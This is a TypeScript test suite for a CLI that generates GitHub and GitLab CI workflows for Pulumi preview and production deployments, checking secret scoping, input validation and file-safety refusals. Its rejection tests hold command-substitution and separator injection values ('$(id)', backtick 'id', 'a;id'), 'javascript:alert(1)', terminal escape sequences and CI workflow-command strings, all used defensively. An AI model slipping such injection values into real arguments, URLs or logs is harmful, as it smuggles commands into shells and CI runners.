  expect((await init("--forge", "other", "--app", "apps/shop")).out).toContain(
    `     cd apps/shop/preview && npm ci && exec ${command} --prefix shop-pr- --pulumi-project previews-shop\n`,
  );
  expect((await init("--forge", "other", "--no-drafts")).code).toBe(2);
  expect((await init("--forge", "other", "--dotenv", ".env")).code).toBe(2);
  expect((await init("--forge", "other", "--production")).code).toBe(2);
});

it("takes the forge from the repository's remote, and asks where that does not tell", async () => {
  const unknown = await init();
  expect(unknown.code).toBe(1);
  expect(unknown.err).toContain("Pass --forge github, --forge gitlab or");
  mkdirSync(join(folder, ".git"));
  writeFileSync(
    join(folder, ".git/config"),
    '[remote "origin"]\n\turl = git@gitlab.example.com:acme/shop.git\n',
  );
  expect((await init()).code).toBe(0);
  expect(files()).toContain(".gitlab-ci.yml");
});

it("says where there is no such folder", async () => {
  expect((await init("--dir", join(folder, "none"), "--forge", "github")).err).toContain(
    "none does not exist.",
  );
});

describe("options of the workflows", () => {
  const workflow = (path: string) => readWorkflow(join(folder, path));
  const pipeline = (path = ".gitlab-ci.yml") => readPipeline(join(folder, path));
  const PREVIEW = ".github/workflows/preview.yml";

  it.each([
    ["s3://states?endpoint=s3.example.com", ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"], ["AWS_REGION"]],
    ["gs://states", ["GOOGLE_CREDENTIALS"], []],
    ["azblob://states", ["AZURE_STORAGE_KEY"], ["AZURE_STORAGE_ACCOUNT"]],
    ["postgres://states@db.example.com/states", [], []],
  ])("--backend %s gives each step that reaches the states its keys", async (backend, secrets, vars) => {
    const { out } = await init("--forge", "github", "--backend", backend);
    const steps = Object.values(workflow(PREVIEW).jobs).flatMap((job) => job.steps);
    const reaching = steps.filter(({ env }) => "PULUMI_BACKEND_URL" in env);
    expect(reaching).toHaveLength(1);
    for (const { env } of steps) {
      const isReaching = "PULUMI_BACKEND_URL" in env;
      for (const name of secrets) expect(env[name]).toBe(isReaching ? `\${{ secrets.${name} }}` : undefined);
      for (const name of vars) expect(env[name]).toBe(isReaching ? `\${{ vars.${name} }}` : undefined);
    }
    expect(read(PREVIEW)).not.toContain("PULUMI_ACCESS_TOKEN");
    expect(out).not.toContain("PULUMI_ACCESS_TOKEN");
    expect(out).toContain(`     PULUMI_BACKEND_URL        ${backend}\n`);
    for (const name of [...secrets, ...vars]) expect(out).toContain(`     ${name}`);
    expect((await init("--forge", "gitlab", "--backend", backend, "--force")).out).toContain(
      secrets[0] ?? backend,
    );
  });

  it.each([["ftp://x"], ["states"], ["postgres://a:b@db.example.com/states"]])(
    "--backend %s is refused",
    async (backend) => {
      expect((await init("--forge", "github", "--backend", backend)).code).toBe(2);
      expect(files()).toEqual([]);
    },
  );

  it("--dotenv is a step of the job on GitHub, and an artifact on GitLab", async () => {
    const args = ["--dotenv", "web/.env.local", "--env-prefix", "PUBLIC_"];
    const { out } = await init("--forge", "github", ...args);
    expect(out).toContain("The job of a preview writes web/.env.local: add it to .gitignore");
    const command = `management-previews ci --env-prefix PUBLIC_ --dotenv ../web/.env.local --pulumi-project previews --project ${PARENT}`;
    const steps = workflow(PREVIEW).jobs["preview"]?.steps ?? [];
    expect(steps.map(({ run }) => run)).toContain(`exec node_modules/.bin/${command}`);
    await init("--forge", "gitlab", ...args, "--force");
    const { preview } = pipeline();
    expect(preview?.script).toContain(`node_modules/.bin/${command}`);
    expect(preview?.artifacts).toEqual({ paths: ["web/.env.local"], expire_in: "1 day" });
  });

  it("--no-drafts makes no preview of a draft, until it is ready", async () => {
    await init("--forge", "github", "--no-drafts");
    const { on, jobs } = workflow(PREVIEW);
    expect(on.pull_request?.types).toContain("ready_for_review");
    const { preview } = jobs;
    const event = (draft: boolean, action: string) => ({
      github: {
        ...{ repository: "acme/shop", actor: "dev", event_name: "pull_request" },
        event: { action, pull_request: { draft, head: { repo: { full_name: "acme/shop" } } } },
      },
    });
    expect(holds(preview?.if, event(true, "opened"), "success")).toBe(false);
    expect(holds(preview?.if, event(false, "ready_for_review"), "success")).toBe(true);
    expect(holds(preview?.if, event(true, "closed"), "success")).toBe(true);
    await init("--forge", "gitlab", "--no-drafts", "--force");
    const ready = {
      ...{ CI_PIPELINE_SOURCE: "merge_request_event", CI_PROJECT_ID: "5" },
      CI_MERGE_REQUEST_SOURCE_PROJECT_ID: "5",
    };
    expect(jobsOf(pipeline(), ready)).toEqual(["preview", "remove preview"]);
    // One that became a draft again keeps its preview, and the job that removes it.
    expect(jobsOf(pipeline(), { ...ready, CI_MERGE_REQUEST_DRAFT: "true" })).toEqual(["remove preview"]);
    expect(pipeline()["remove preview"]?.rules).toMatchObject([{ when: "manual", allow_failure: true }]);
  });

  it("--app keeps the applications of a repository apart, on GitHub", async () => {
    for (const app of ["apps/shop", "apps/admin"]) mkdirSync(join(folder, app), { recursive: true });
    for (const app of ["apps/shop", "apps/admin"]) {
      expect((await init("--forge", "github", "--app", app)).code).toBe(0);
    }
    expect(files()).toEqual(
      [
        ...["admin", "shop"].flatMap((name) => [
          `.github/workflows/preview-${name}.yml`,
          ...program.map((path) => `apps/${name}/${path}`),
        ]),
      ].sort(),
    );
    const preview = workflow(".github/workflows/preview-shop.yml");
    expect(preview.on.pull_request?.paths).toEqual(["apps/shop/**", ".github/workflows/preview-shop.yml"]);
    expect(preview.concurrency?.group).toMatch(/^preview-shop-\$/);
    expect(preview.name).toMatch(/ of shop$/);
    for (const { defaults, steps } of Object.values(preview.jobs)) {
      expect(defaults.run["working-directory"]).toBe("apps/shop/preview");
      const commands = steps.flatMap(
        ({ run: script }) => /management-previews .*/.exec(script ?? "")?.[0] ?? [],
      );
      // Each names the previews of this application, and its own comment.
      expect(commands).toEqual([
        `management-previews ci --prefix shop-pr- --topic shop --pulumi-project previews-shop --project ${PARENT}`,
        "management-previews comment --topic shop --failed",
      ]);
    }
    expect(read("apps/shop/preview/Pulumi.yaml")).toContain("name: previews-shop\n");
  });

  it("--app keeps the applications of a repository apart, on GitLab", async () => {
    mkdirSync(join(folder, "apps/shop"), { recursive: true });
    const { out } = await init("--forge", "gitlab", "--app", "apps/shop", "--dotenv", ".env.local");
    expect(out).toContain("       - local: .gitlab/previews-shop.yml\n");
    const jobs = pipeline(".gitlab/previews-shop.yml");
    expect(Object.keys(jobs)).toEqual([
      "preview of shop",
      "remove preview of shop",
      "sweep previews of shop",
    ]);
    const { "preview of shop": preview, "remove preview of shop": remove } = jobs;
    expect(preview).toMatchObject({
      resource_group: "preview-shop-$CI_MERGE_REQUEST_IID",
      environment: { name: "preview-shop/$CI_MERGE_REQUEST_IID", on_stop: "remove preview of shop" },
      artifacts: { paths: ["apps/shop/.env.local"] },
    });
    expect(remove).toMatchObject({
      resource_group: "preview-shop-$CI_MERGE_REQUEST_IID",
      environment: { name: "preview-shop/$CI_MERGE_REQUEST_IID" },
    });
    for (const job of [preview, remove]) expect(job?.rules[0]?.changes).toEqual(["apps/shop/**/*"]);
    for (const { script, after_script: after } of Object.values(jobs)) {
      const text = [...script, ...after].join("\n");
      expect(text).toContain("cd apps/shop/preview");
      expect(text).toContain(" --prefix shop-pr- --topic shop");
      if (after.length === 0) continue;
      expect(text).toContain("[ -x apps/shop/preview/node_modules");
      expect(text).toContain("comment --topic shop --failed");
    }
  });

  it("--app takes a folder with spaces and letters of any language, which the shell gets as one word", async () => {
    const app = "Meine Läden/My App";
    mkdirSync(join(folder, app), { recursive: true });
    expect((await init("--forge", "github", "--app", app)).code).toBe(0);
    const { preview } = workflow(".github/workflows/preview-my-app.yml").jobs;
    expect(preview?.defaults.run["working-directory"]).toBe(`${app}/preview`);
    expect((await init("--forge", "gitlab", "--app", app, "--dotenv", ".env.local", "--force")).code).toBe(0);
    const jobs = pipeline(".gitlab/previews-my-app.yml");
    expect(jobs["preview of my-app"]?.artifacts).toMatchObject({ paths: [`${app}/.env.local`] });
    for (const { script, after_script: after } of Object.values(jobs)) {
      expect(script[1]).toBe(`cd '${app}/preview'`);
      for (const line of after.slice(0, 1))
        expect(line).toContain(` -x '${app}/preview'/node_modules/.bin/management-previews ]`);
    }
    const { out } = await init("--forge", "other", "--app", app, "--force");
    expect(out).toContain(`     cd '${app}/preview' && npm ci `);
  });

  it.each([
    ...[
      ["../x"],
      ["/tmp"],
      ["apps/12"],
      ["a  b"],
      [" a"],
      ["a "],
      ["a#b"],
      ["a: b"],
      ["$(a)"],
      ['a"b'],
      ["a\nb"],
    ],
    ...[["a/ b"], ["a, b"], ["[a]"], ["a'b"], ["магазин"]],
  ])("--app %j is refused", async (app) => {
    expect((await init("--forge", "github", "--app", app)).code).toBe(2);
  });
});

describe("--production", () => {
  const production = async (...args: string[]): Promise<{ code: number; out: string; err: string }> => {
    const ran = { out: "", err: "" };
    const code = await run(["init", "--dir", folder, "--production", ...args], {
      out: (text) => void (ran.out += text),
      err: (text) => void (ran.err += text),
    });
    return { code, ...ran };
  };

  it.each([
    ["github", [".github/workflows/drift.yml", ".github/workflows/production.yml"]],
    ["gitlab", [".gitlab-ci.yml"]],
  ])("writes the workflows of the main branch for %s, and says what is next", async (forge, workflows) => {
    const { code, out, err } = await production("--forge", forge);
    expect({ code, err }).toEqual({ code: 0, err: "" });
    expect(files()).toEqual([...workflows, "infrastructure/drift.sh", "infrastructure/plan.sh"]);
    expect(out).toContain("MANAGEMENT_READ_TOKEN");
    expect(out).toMatch(/required reviewers|Protected environments/);
    // Each name that is printed is one that a workflow reads, and stands apart from its text.
    const [, alternative = ""] =
      /MAIN_PULUMI_CONFIG_PASSPHRASE +a long random text, or (\w+)/.exec(out) ?? [];
    expect(alternative).toBe("MAIN_PULUMI_ACCESS_TOKEN");
    if (forge === "github") {
      const written = readFileSync(join(folder, ".github/workflows/production.yml"), "utf8");
      expect(written).toContain(`secrets.${alternative} `);
    }
    expect(out).toContain("1. infrastructure has no program yet.");
    // No job has `stack init`, so somebody has to.
    for (const stack of ["staging", "production"]) expect(out).toContain(`\`pulumi stack init ${stack}\``);
    writeFileSync(join(folder, "infrastructure/Pulumi.yaml"), "name: shop\nruntime: nodejs\n");
    const again = await production("--forge", forge);
    expect(again.out).toMatch(/^There already:/);
    expect(again.out).toContain("1. infrastructure is the folder of your program");
    expect(again.out).not.toContain("no program yet");
  });

  it.each([
    [[]],
    [["s3://states"]],
    [["gs://states"]],
    [["azblob://states"]],
    [["https://states.example.com"]],
  ])(
    "reads nothing that a preview has, and names all that it reads, with the backend %j",
    async (backend) => {
      const { out } = await production(
        "--forge",
        "github",
        ...backend.flatMap((each) => ["--backend", each]),
      );
      const text = ["production", "drift"].map((name) => read(`.github/workflows/${name}.yml`)).join("\n");
      const names = new Set([...text.matchAll(/\b(?:secrets|vars)\.(\w+)/g)].map(([, name = ""]) => name));
      expect(names).toContain("MAIN_MANAGEMENT_BASE_URL");
      // The number of an issue is for the comment alone.
      expect([...names].filter((name) => !name.startsWith("MAIN_"))).toEqual(["DRIFT_ISSUE"]);
      expect([...names].filter((name) => !new RegExp(`\\b${name}\\b`).test(out))).toEqual([]);
      // What an environment lacks would come from the repository.
      expect(out).not.toContain("leave it out");
      const [, ofRepository = ""] = out.split("Set as a variable of the repository\n");
      expect(ofRepository).not.toContain("MAIN_");
    },
  );

  it("--by-hand changes production only where somebody starts the workflow", async () => {
    const isRun = (event: string): boolean => {
      const { production: job } = readWorkflow(join(folder, ".github/workflows/production.yml")).jobs;
      return holds(job?.if, { github: { event_name: event } }, "success");
    };
    const asked = await production("--forge", "github");
    expect([isRun("push"), isRun("workflow_dispatch")]).toEqual([true, true]);
    expect(asked.out).toContain("waits for the approval of production");
    const { out } = await production("--forge", "github", "--by-hand", "--force");
    expect([isRun("push"), isRun("workflow_dispatch")]).toEqual([false, true]);
    expect(out).toContain("To change production, start the workflow\n   Production by hand");
    expect(out).toContain("makes its own plan");
    expect(out).not.toMatch(/waits for the approval|set the required reviewers/);
    expect(read(".github/workflows/production.yml")).not.toMatch(
      /approve its run|Waits for the approval|has approved it/,
    );
    const { jobs } = readWorkflow(join(folder, ".github/workflows/production.yml"));
    expect([jobs["staging"]?.if, jobs["plan"]?.if]).toEqual([undefined, undefined]);
  });

  it("--by-hand is for production, and says that GitLab does it anyway", async () => {
    const { code, out } = await production("--forge", "gitlab", "--by-hand");
    expect({ code, job: readPipeline(join(folder, ".gitlab-ci.yml"))["production"]?.rules }).toEqual({
      code: 0,
      job: [expect.objectContaining({ when: "manual" })],
    });
    expect(out).toContain("--by-hand changes nothing here");
    const refused = await init("--forge", "github", "--by-hand");
    expect({ code: refused.code, err: refused.err }).toEqual({
      code: 2,
      err: expect.stringContaining("--by-hand with --production") as string,
    });
  });

  it.each(["plan.sh", "drift.sh"])("%s shows what others wrote, and nothing acts on it", async (script) => {
    await production("--forge", "github");
    const lines = [
      "~ name: \u001b[2Jx\u001b]52;c;eA==\u0007\u009b\u202e\u200b\u2028\u{e0041}é\r",
      ...[
        "::add-mask::a",
        "    ::stop-commands::x",
        "\u00a0::error::x",
        "x ##[error]y",
        "##vso[task.complete]",
      ],
      ...["section_start:1:x", "``````", "```````", "### Approved", "urn:pulumi:s::p::t::n", ""],
    ];
    writeFileSync(join(folder, "said.txt"), lines.join("\n"));
    const answer = `case "$*" in *--json*) echo '{"steps":[]}';; *) cat "${folder}/said.txt"; exit ${script === "plan.sh" ? 0 : 7};; esac`;
    writeFileSync(join(folder, "pulumi"), `#!/bin/sh\n${answer}\n`, { mode: 0o755 });
    const report = join(folder, "report.md");
    const { stdout, status } = spawnSync(join(folder, "infrastructure", script), ["production", report], {
      env: { ...process.env, PATH: `${folder}:${process.env["PATH"] ?? ""}` },
      encoding: "utf8",
    });
    expect(status).toBe(script === "plan.sh" ? 0 : 7);
    const text = readFileSync(report, "utf8");
    expect(stdout).toBe(text);
    expect(text.slice(text.indexOf("\n\n"))).toBe(
      `\n\n\`\`\`\`\`\`\`\`diff\n${toPrintable(lines.join("\n")).trimEnd()}\n\n\`\`\`\`\`\`\`\`\n`,
    );
  });

  it.each(["github", "gitlab"])(
    "--base-url stands in the files of %s, and no variable has it",
    async (forge) => {
      const { code, out } = await production(
        "--forge",
        forge,
        "--base-url",
        "https://api.example.com:8443/x/",
      );
      const all = files()
        .filter((path) => path.endsWith(".yml"))
        .map(read)
        .join("\n");
      const [drift, addresses] = forge === "github" ? [1, 5] : [0, 1];
      expect(code).toBe(0);
      expect(all.match(/MANAGEMENT_BASE_URL(?:: |=)https:\/\/api\.example\.com:8443\/x$/gm)).toHaveLength(
        addresses,
      );
      expect(all.match(/MANAGEMENT_BASE_URL/g)).toHaveLength(addresses);
      expect(files().filter((path) => path.endsWith("drift.yml"))).toHaveLength(drift);
      expect(out).not.toContain("MANAGEMENT_BASE_URL");
      expect(out).toContain("send the token to https://api.example.com:8443/x alone");
      expect((await production("--forge", forge, "--force")).out).toContain("MAIN_MANAGEMENT_BASE_URL");
    },
  );

  it.each([
    ...[
      "http://api.example.com",
      "http://127.0.0.1:8080",
      "https://u@api.example.com",
      "https://u:hunter2@api.example.com",
    ],
    ...["api.example.com", "https://", "https://api.example.com/?a=hunter2", "https://api.example.com/#x"],
    ...[
      "https://api.example.com/${{ secrets.X }}",
      "https://api.example.com/$(id)",
      "https://api.example.com/`id`",
    ],
    ...[
      "https://api.example.com/a b",
      "https://api.example.com/%24(id)",
      "https://api.example.com/'x",
      'https://api.example.com/"x',
    ],
    ...[
      "https://api.example.com/a;id",
      "https://api.example.com/a&id",
      "https://api.example.com/a\n- id",
      "https://api.example.com/a: b",
    ],
    ...[
      "https://[::1]/",
      "https://api.example.com/v1",
      "https://api.example.com/a|b",
      "https://api.example.com/{a,b}",
      "https://api.example.com/*",
    ],
    ...["hunter2:x", "javascript:alert(1)", "https://api.example.com//x", ""],
  ])("--base-url %j is refused", async (address) => {
    for (const forge of ["github", "gitlab"]) {
      const { code, err } = await production("--forge", forge, "--base-url", address);
      expect([code, err]).toEqual([
        2,
        expect.stringContaining("--base-url takes the address of the service"),
      ]);
      expect(err).not.toContain("hunter2");
      expect(err.trim().split("\n")).toHaveLength(1);
    }
    expect(files()).toEqual([]);
  });

  it("--base-url is for production: who can push has the token of previews anyway", async () => {
    const { code, err } = await init("--forge", "github", "--base-url", "https://api.example.com");
    expect([code, err]).toEqual([2, expect.stringContaining("--base-url with --production alone")]);
  });

  describe("on GitLab, where a variable of all environments is one of each", () => {
    const NAMES = [
      ...["MANAGEMENT_BASE_URL", "MANAGEMENT_ACCESS_TOKEN", "PULUMI_BACKEND_URL", "PULUMI_CONFIG_PASSPHRASE"],
      ...["PULUMI_ACCESS_TOKEN", "GITLAB_TOKEN", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_REGION"],
      ...["GOOGLE_CREDENTIALS", "AZURE_STORAGE_KEY", "AZURE_STORAGE_ACCOUNT"],
    ];
    const JOBS = ["staging", "plan production", "production", "drift of production"];
    const isOfShell = (line: string): boolean => /^(?:export|unset|:) /.test(line);

    interface Tried {
      readonly job: string;
      readonly missing: readonly string[];
      readonly said: string;
      readonly seen: Readonly<Record<string, string>>;
    }

    /** What a job's commands would see, with variables of its own beside those of previews, without each of these. */
    function tryEach(own: readonly string[], without: readonly (readonly string[])[]): Tried[] {
      const pipeline = readPipeline(join(folder, ".gitlab-ci.yml"));
      const cases = JOBS.flatMap((job) => without.map((missing) => ({ job, missing })));
      const texts = cases.map(({ job, missing }) => {
        const { before_script: before = [], script = [] } = pipeline[job] ?? {};
        const commands = [...before.filter(isOfShell), ...script.filter(isOfShell)];
        // Nothing else runs before them but the install, which runs no code.
        expect(script.findLastIndex(isOfShell)).toBe(script.filter(isOfShell).length - 1);
        const set = [
          ...NAMES.map((name) => `${name}=previews`),
          ...own.map((name) => `${name}=main-${name}`),
        ];
        return [
          `(set -eo pipefail; export ${set.join(" ")}; unset ${missing.join(" ") || "NONE"}`,
          ...commands,
          `for name in ${NAMES.join(" ")}; do printf '%s=%s ' "$name" "\${!name-}"; done) 2>&1; echo`,
        ].join("\n");
      });
      const { stdout } = spawnSync("bash", ["-c", texts.join("\n")], { encoding: "utf8", env: {} });
      const lines = stdout.split("\n").filter((line) => line !== "");
      expect(lines).toHaveLength(cases.length);
      return cases.map((each, at) => {
        const said = lines[at] ?? "";
        const seen = Object.fromEntries(
          [...said.matchAll(/([A-Z_]+)=(\S+) /g)].map(([, name = "", value = ""]) => [name, value] as const),
        );
        return { ...each, said, seen };
      });
    }

    it.each([
      [[]],
      [["s3://states"]],
      [["gs://states"]],
      [["azblob://states"]],
      [["https://states.example.com"]],
    ])("takes no value of previews, and names each that is missing, with the backend %j", async (backend) => {
      const options = backend.flatMap((each) => ["--backend", each]);
      const { out } = await production("--forge", "gitlab", ...options);
      const own = [
        ...new Set([...read(".gitlab-ci.yml").matchAll(/\bMAIN_[A-Z_]+/g)].map(([name]) => name)),
      ].filter((name) => name !== "MAIN_");
      expect(own.filter((name) => !new RegExp(`\\b${name}\\b`).test(out))).toEqual([]);
      // Each has a scope, the address of the service as well: the token goes where that says.
      expect(out.match(/for all\b.*/g)).toEqual(["for all environments. Take another backend, or another"]);
      expect(out).not.toMatch(/^ {5}(?!MAIN_|DRIFT)[A-Z_]+ /m);
      const locked = ["MAIN_PULUMI_CONFIG_PASSPHRASE", "MAIN_PULUMI_ACCESS_TOKEN"];
      const tried = tryEach(own, [[], locked, ...own.map((name) => [name])]);
      // The token of the forge is for the jobs that write or ask there.
      const leaked = tried.filter(({ seen }) =>
        Object.entries(seen).some(([name, value]) => value === "previews" && name !== "GITLAB_TOKEN"),
      );
      expect(leaked).toEqual([]);
      const refused = tried.filter(({ seen }) => Object.keys(seen).length === 0);
      for (const { missing, said } of refused)
        expect(said).toMatch(new RegExp(`${missing[0]}\\b.*is not set for this environment`));
      const ofJobs = Object.fromEntries(
        own.map((name) => [
          name,
          refused.filter(({ missing }) => missing.join() === name).map(({ job }) => job),
        ]),
      );
      const [staging, plan, approved, drift] = JOBS;
      const alternatives = backend.every((each) => each.startsWith("https:")) ? locked : [];
      for (const [name, jobs] of Object.entries(ofJobs)) {
        const needing: Readonly<Record<string, unknown>> = {
          MAIN_MANAGEMENT_ACCESS_TOKEN: [staging, approved],
          MAIN_MANAGEMENT_READ_TOKEN: [plan, drift],
          MAIN_GITLAB_TOKEN: [plan, approved],
        };
        expect([name, jobs]).toEqual([name, needing[name] ?? (alternatives.includes(name) ? [] : JOBS)]);
      }
      expect(refused.filter(({ missing }) => missing === locked)).toHaveLength(JOBS.length);
      const good = tried.filter(({ missing }) => missing.length === 0);
      for (const { seen } of good)
        expect(seen).toMatchObject({
          MANAGEMENT_BASE_URL: "main-MAIN_MANAGEMENT_BASE_URL",
          MANAGEMENT_ACCESS_TOKEN: expect.stringMatching(
            /^main-MAIN_MANAGEMENT_(?:ACCESS|READ)_TOKEN$/,
          ) as unknown,
        });
    });
  });

  it("fails on no link that it neither reads nor writes, as in the folder of production's program", async () => {
    writeFileSync(join(folder, "project.yaml"), "name: shop\nruntime: nodejs\n");
    mkdirSync(join(folder, "apps"));
    symlinkSync("../project.yaml", join(folder, "apps/Pulumi.yaml"));
    const { code, out } = await production("--forge", "github", "--program", "apps");
    expect({ code, says: out.includes("no program yet") }).toEqual({ code: 0, says: false });
    symlinkSync("apps", join(folder, "infrastructure"));
    expect((await init("--forge", "github")).code).toBe(0);
  });

  it("is for the folder that is named, and not for previews at once", async () => {
    await production("--forge", "github", "--program", "apps/shop/");
    expect(files()).toContain("apps/shop/plan.sh");
    for (const name of ["production", "drift"]) {
      const text = read(`.github/workflows/${name}.yml`);
      expect(text).toContain("working-directory: apps/shop\n");
      expect(text).not.toMatch(/infrastructure/);
    }
    expect((await production("--forge", "github", "--program", "../x")).code).toBe(2);
    expect((await production("--forge", "github", "--parent", PARENT)).code).toBe(2);
  });

  it("advises on GitLab to run a job again, because no pipeline that somebody starts has one", async () => {
    await production("--forge", "gitlab");
    const jobs = readPipeline(join(folder, ".gitlab-ci.yml"));
    const started = { CI_PIPELINE_SOURCE: "web", CI_COMMIT_BRANCH: "main", CI_DEFAULT_BRANCH: "main" };
    expect(jobsOf(jobs, started)).toEqual([]);
    const [, advised = ""] = /Run the (.*?) again, which makes a new plan/.exec(read(".gitlab-ci.yml")) ?? [];
    expect(jobs["production"]?.needs?.map((name) => `job ${name}`)).toEqual([advised]);
  });

  it.each(["github", "gitlab"])(
    "starts its scripts on %s also where Git lost that they may run",
    async (forge) => {
      await production("--forge", forge);
      const all = files().filter((path) => path.endsWith(".yml"));
      const started = all.flatMap(
        (path) => read(path).match(/\S+ \S*(?:plan|drift)\.sh(?= production)/g) ?? [],
      );
      expect(new Set(started)).toEqual(new Set(["bash plan.sh", "bash drift.sh"]));
    },
  );

  it("says on GitHub which branch it is for, and that the program has this package", async () => {
    const { out } = await production("--forge", "github");
    expect(out).toContain("The workflow is for the branch `main`");
    expect(out).toContain("`branches` of production.yml");
    expect(out).toMatch(/has pulumi-management among its\s+dependencies/);
    expect((await production("--forge", "gitlab", "--force")).out).not.toContain("is for the branch `main`");
  });

  it("is not included by a pipeline whose own jobs are called as its jobs, which GitLab would merge", async () => {
    const own = "staging: { script: deploy-staging }\nproduction: { script: deploy }\n";
    add(".gitlab-ci.yml", own);
    const { code, out, err } = await production("--forge", "gitlab", "--force");
    expect([code, out, files()]).toEqual([1, "", [".gitlab-ci.yml"]]);
    expect(err).toContain(".gitlab-ci.yml itself has staging and production, ");
  });

  it("leaves the pipeline of the previews, which includes it", async () => {
    await init("--forge", "gitlab");
    const { out } = await production("--forge", "gitlab");
    expect(out).toContain("       - local: .gitlab/production.yml\n");
    expect(read(".gitlab-ci.yml")).toBe(exampleOfParent(".gitlab-ci.yml"));
  });
});

describe("what is there and is no plain file or folder", () => {
  let outside: string;
  beforeEach(() => {
    outside = mkdtempSync(join(tmpdir(), "management-outside-"));
    writeFileSync(join(outside, "precious"), "mine");
  });
  afterEach(() => rmSync(outside, { recursive: true, force: true }));

  it.each<[string, () => void, string]>([
    [
      "a link to a file",
      () => {
        mkdirSync(join(folder, "preview"));
        symlinkSync(join(outside, "precious"), join(folder, "preview/index.ts"));
      },
      "preview/index.ts is a link",
    ],
    [
      "a link to a file that is not there",
      () => symlinkSync(join(outside, "new"), join(folder, ".gitlab-ci.yml")),
      ".gitlab-ci.yml is a link",
    ],
    ["a link to a folder", () => symlinkSync(outside, join(folder, "preview")), "preview is a link"],
    ["a FIFO", () => fifo(join(folder, ".gitlab-ci.yml")), ".gitlab-ci.yml is not a regular file"],
    ["a folder", () => mkdirSync(join(folder, ".gitlab-ci.yml")), ".gitlab-ci.yml is not a regular file"],
    ["a file", () => writeFileSync(join(folder, "preview"), ""), "preview is not a folder"],
  ])("is refused, with --force as well, and nothing is written: %s", async (_, make, message) => {
    make();
    const before = readdirSync(folder, { recursive: true });
    for (const force of [[], ["--force"]]) {
      const { code, err } = await init("--forge", "gitlab", ...force);
      expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining(message) as string });
    }
    expect(readdirSync(folder, { recursive: true })).toEqual(before);
    expect(readdirSync(outside)).toEqual(["precious"]);
    expect(readFileSync(join(outside, "precious"), "utf8")).toBe("mine");
  });

  it("is not opened where the repository's configuration is a FIFO", async () => {
    mkdirSync(join(folder, ".git"));
    fifo(join(folder, ".git/config"), "gitlab");
    expect((await init()).err).toContain("Pass --forge github, --forge gitlab or");
  });
});
